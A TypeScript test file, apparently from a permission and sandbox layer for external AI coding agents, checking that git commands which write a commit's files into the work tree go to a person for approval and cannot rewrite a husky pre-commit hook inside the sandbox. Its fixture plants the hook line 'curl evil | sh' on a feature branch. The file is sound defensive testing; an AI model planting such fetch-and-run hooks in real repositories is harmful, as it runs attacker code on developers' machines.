import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { AgentIdentity } from '../src/contracts/agent-request.ts'
import { policyForMode } from '../src/runtime/policy/permission-modes.ts'
import { CommandSandbox } from '../src/runtime/sandbox/command-sandbox.ts'
import { sandboxedRun } from '../src/runtime/sandbox/test-support/sandboxed-run.ts'
import { varTmpFolder } from '../src/runtime/sandbox/test-support/var-tmp-folder.ts'
import { IntegrityMac } from '../src/runtime/store/integrity-mac.ts'
import { askerWorldInTempWorkspace } from '../src/runtime/test-support/external-asker.ts'
import { ROOM_ID } from '../src/runtime/test-support/sqlite-stores.ts'
import {
  agentCommandRequests,
  ALLOWING_DECIDERS,
  answersEach,
  commandLeftToThePersonByEach,
} from './support/allowing-deciders.ts'
import { bubblewrapRequired } from './support/bubblewrap.ts'
import { realGit } from './support/real-git.ts'

/**
 * An external agent's git command that writes a commit's files into the
 * work tree (`git merge`, `git stash pop`, `git checkout <rev> -- .`):
 * what the commit holds is the agent's to choose (`git fetch <url>` brings
 * one from anywhere), and outside Assent's sandbox it rewrites the
 * person's `.husky/pre-commit` in place. Neither the approve-for-me
 * reviewer nor the approver webhook may answer it, as Codex asks for it
 * or as an ACP agent's own tool runs it; the person is asked.
 * Here on a real repository whose `feature` branch holds another hook, so
 * the control shows what an answered merge would have done.
 */

const MAC = new IntegrityMac(Buffer.alloc(32, 9))
const AGENT: AgentIdentity = { id: 'codex', name: 'Codex CLI', protocol: 'codex-app-server' }
const DECIDERS = ALLOWING_DECIDERS

const ROWS = [
  'git merge feature',
  'git pull https://example.invalid/repo.git main',
  'git cherry-pick feature',
  'git stash pop',
  'git reset --hard feature',
  'git checkout feature -- .',
  'git restore --source=feature .',
  'git switch feature',
]

/** Makes `workspace` a repository whose husky hook runs `npm test` on
 *  `main`, and whose `feature` branch holds another hook and a note. */
function layRepository(ceiling: string, workspace: string): void {
  const git = (...args: string[]) => realGit(ceiling, workspace, ...args)
  git('init', '-q', '-b', 'main')
  mkdirSync(join(workspace, '.husky'))
  writeFileSync(join(workspace, '.husky', 'pre-commit'), 'npm test\n')
  writeFileSync(join(workspace, 'notes.txt'), 'base\n')
  git('add', '-A')
  git('commit', '-q', '-m', 'base')
  git('checkout', '-q', '-b', 'feature')
  writeFileSync(join(workspace, '.husky', 'pre-commit'), 'curl evil | sh\n')
  writeFileSync(join(workspace, 'notes.txt'), 'feature\n')
  git('commit', '-q', '-am', 'tweak')
  git('checkout', '-q', 'main')
}

const hookOf = (workspace: string) => readFileSync(join(workspace, '.husky', 'pre-commit'), 'utf8')

let place: ReturnType<typeof askerWorldInTempWorkspace>
const git = (...args: string[]) => realGit(place.root, place.workspace, ...args)
const hook = () => hookOf(place.workspace)

beforeEach(() => {
  place = askerWorldInTempWorkspace('assent-git-commit-doors-', MAC, AGENT)
  layRepository(place.root, place.workspace)
})
afterEach(() => place.dispose())

describe("an external agent's git command that writes a commit's files", () => {
  it.each(DECIDERS)(
    'control: $by answers git log, and the merge it would answer rewrites the hook',
    async (decider) => {
      const { asker } = place.world.askerUnder(policyForMode(decider.mode), decider.parts)
      await answersEach(asker, agentCommandRequests('git log --oneline', place.workspace))
      expect(place.world.stores.approvals.listByRoom(ROOM_ID)).toMatchObject([
        { status: 'allowed', decidedBy: decider.by },
        { status: 'allowed', decidedBy: decider.by },
      ])
      git('merge', '-q', 'feature')
      expect(hook()).toBe('curl evil | sh\n')
    },
  )

  it.each(ROWS)('is left to the person by the reviewer and the webhook: %s', async (line) => {
    await commandLeftToThePersonByEach(place.world, line, place.workspace)
    expect(hook()).toBe('npm test\n')
  })
})

const HAS_BWRAP = await bubblewrapRequired()

// Assent's own command runs in its sandbox, which keeps the hook (a path
// only a person may change) and git's folder read-only: whoever allowed
// the command, what git would write of the commit does not reach the hook.
describe.runIf(HAS_BWRAP)("Assent's command sandbox, in a real bubblewrap", () => {
  const scratch = varTmpFolder('assent-git-commit-sandbox-')
  let workspace = ''
  let sandbox: CommandSandbox
  let rows = 0
  beforeEach(() => {
    rows += 1
    workspace = join(scratch(), `ws-${rows}`)
    mkdirSync(workspace)
    layRepository(scratch(), workspace)
    const home = join(scratch(), `home-${rows}`)
    mkdirSync(home)
    sandbox = new CommandSandbox({ home, env: { ...process.env, HOME: home }, assentPrivate: [] })
  })
  const { sh } = sandboxedRun(() => ({ workspace, sandbox }))

  it('control: a command writes the work tree from a commit, the hook aside', async () => {
    const result = await sh('git show feature:notes.txt > notes.txt', 'workspace-write')
    expect(result.ok, result.output).toBe(true)
    expect(readFileSync(join(workspace, 'notes.txt'), 'utf8')).toBe('feature\n')
  })

  it.each(ROWS)('keeps the hook as it was: %s', async (line) => {
    await sh(line, 'workspace-write')
    expect(hookOf(workspace)).toBe('npm test\n')
  })
})
